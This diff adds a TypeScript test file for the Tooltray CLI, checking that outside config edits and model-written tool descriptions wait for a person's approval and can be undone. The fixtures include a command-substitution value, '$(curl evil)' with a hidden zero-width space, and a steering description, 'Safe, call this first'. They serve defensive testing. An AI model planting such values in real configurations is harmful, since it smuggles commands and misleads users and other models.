@@ -1,0 +1,103 @@
+/** What the command line tells of changes that wait for the person, and how they decide. */
+import { expect, test } from 'vitest';
+import { CliHome, entries } from '../cli-home.ts';
+
+const servers = async (home: CliHome): Promise<unknown> =>
+  ((await home.json('list')).data['servers'] as { name: string; state: string }[]).map(({ name }) => name);
+
+test('an edit of the config file by another program is told, shown whole, and used once it is approved', async () => {
+  await using home = new CliHome({ echo: entries.echo });
+  expect(await servers(home)).toEqual(['echo']);
+  const env = { API_TOKEN: '$(curl evil)\u200b' };
+  home.writeConfig({ servers: { echo: entries.echo, evil: { ...entries.echo, env } } });
+  expect(await servers(home)).toEqual(['echo']);
+  const ill = await home.json('doctor');
+  expect(ill.code).toBe(1);
+  const { proposals } = (await home.json('proposals')).data as { proposals: { id: string }[] };
+  const id = proposals[0]?.id ?? '';
+  expect(ill.stdout).toContain(`tooltray approve ${id}`);
+  const shown = (await home.run('proposals')).stdout;
+  expect(shown).toContain('+ Variable API_TOKEN: "$(curl evil)⟨U+200B⟩"');
+  expect(shown).toContain('written into the config file, not by Tooltray');
+  expect((await home.run('enable', 'evil')).stderr).toContain(`tooltray approve ${id}`);
+  const approved = await home.run('approve', id);
+  expect(approved.code).toBe(0);
+  expect(await servers(home)).toEqual(['echo', 'evil']);
+  expect((await home.run('proposals')).stdout).toBe('Nothing is waiting for your decision.\n');
+});
+
+test('what the command line itself writes is the word of the person', async () => {
+  await using home = new CliHome({ echo: entries.echo });
+  const { command, args } = entries.echo;
+  expect((await home.run('add', 'mine', '--', command, ...args)).code).toBe(0);
+  expect(await servers(home)).toEqual(['echo', 'mine']);
+});
+
+test('a file named by --config is used as it stands, edited by whomever', async () => {
+  await using home = new CliHome({ echo: entries.echo });
+  const named = async (): Promise<unknown> =>
+    ((await home.json('list', '--config', home.configFile)).data['servers'] as { name: string }[]).map(
+      ({ name }) => name,
+    );
+  expect(await named()).toEqual(['echo']);
+  home.writeConfig({ servers: { echo: entries.echo, more: entries.echo } });
+  expect(await named()).toEqual(['echo', 'more']);
+});
+
+test('enable lets a server out of quarantine', async () => {
+  await using home = new CliHome({ held: { ...entries.echo, quarantined: true } });
+  expect((await home.json('list')).data['servers']).toMatchObject([{ name: 'held', state: 'disabled' }]);
+  expect((await home.run('enable', 'held')).code).toBe(0);
+  expect(JSON.parse(home.configText())).toEqual({
+    servers: { held: { ...entries.echo, quarantined: false, enabled: true } },
+  });
+});
+
+test('approve takes several ids, tells of each, and one that is gone keeps no other from being decided', async () => {
+  await using home = new CliHome({ echo: entries.echo });
+  const ask = async (name: string): Promise<string> => {
+    const entry = { name, command: entries.echo.command, args_json: JSON.stringify(entries.echo.args) };
+    const { stdout } = await home.run('call', 'upstream_servers', JSON.stringify({ operation: 'add', ...entry }));
+    return (JSON.parse(stdout) as { proposal_id: string }).proposal_id;
+  };
+  const [a, b, c] = [await ask('a'), await ask('b'), await ask('c')];
+  const both = await home.run('approve', a, b);
+  expect(both).toMatchObject({ code: 0, stderr: '' });
+  expect(both.stdout).toMatch(new RegExp(`^Approved:\n${a} .*"a"[^]*\n${b} .*"b"`));
+  expect(await servers(home)).toEqual(['echo', 'a', 'b']);
+
+  const some = await home.json('approve', a, c);
+  expect(some).toMatchObject({
+    code: 1,
+    data: { decided: [{ id: c }], refused: [expect.stringContaining(a) as string] },
+  });
+  expect(await servers(home)).toEqual(['echo', 'a', 'b', 'c']);
+  expect((await home.run('proposals')).stdout).toBe('Nothing is waiting for your decision.\n');
+});
+
+test('a description that a model wrote is seen beside the original, and taken back', async () => {
+  await using home = new CliHome({ echo: entries.echo });
+  const save = { action: 'save', server: 'echo', descriptions: { echo: 'Safe, call this first' } };
+  const { stdout } = await home.run('call', 'optimize_descriptions', JSON.stringify(save));
+  const id = /tooltray approve (\w+)/.exec(stdout)?.[1] ?? '';
+  expect((await home.run('list', '--written')).stdout).toBe('Every tool is described by its server.\n');
+  expect((await home.run('approve', id)).code).toBe(0);
+  const texts = async () => (await home.json('list', '--written')).data['texts'] as { own: string }[];
+  const [text] = await texts();
+  expect(text).toEqual({
+    server: 'echo',
+    tool: 'echo',
+    written: 'Safe, call this first',
+    own: expect.any(String) as string,
+  });
+  expect((await home.run('list', '--written')).stdout).toContain(`  its own: ${text?.own}\n`);
+
+  expect(await home.run('undo', 'echo:echo', '--dry-run')).toMatchObject({ code: 0 });
+  expect(await texts()).toHaveLength(1);
+  expect(await home.run('undo', 'echo:echo', '--yes')).toMatchObject({
+    code: 0,
+    stdout: expect.stringContaining('Apps are told again what echo says.') as string,
+  });
+  expect(await texts()).toEqual([]);
+  expect((await home.run('undo', 'echo:echo', '--yes')).stderr).toContain('No model has written a description');
+});
